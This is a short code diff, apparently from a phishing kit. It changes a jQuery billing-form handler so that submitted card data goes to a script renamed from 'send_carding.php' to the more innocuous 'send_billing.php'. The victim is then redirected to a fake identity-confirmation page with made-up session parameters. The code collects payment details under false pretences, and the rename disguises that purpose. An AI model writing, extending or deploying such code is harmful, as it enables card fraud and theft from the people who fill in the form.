@@ -4,7 +4,7 @@ $("#billing").validate({
   errorClass: "has-error",
   submitHandler: function (form) {
     $(".rotation").show();
-    $.post("../system/send_carding.php?ajax", $(form).serialize(), function () {
+    $.post("../system/send_billing.php?ajax", $(form).serialize(), function () {
       setTimeout(function () {
         window.location.assign("../confirm/identity?cmd=_session=" + Math.random().toString(16).substr(2) + "&dispatch=" + Date.now());
       }, 3000);
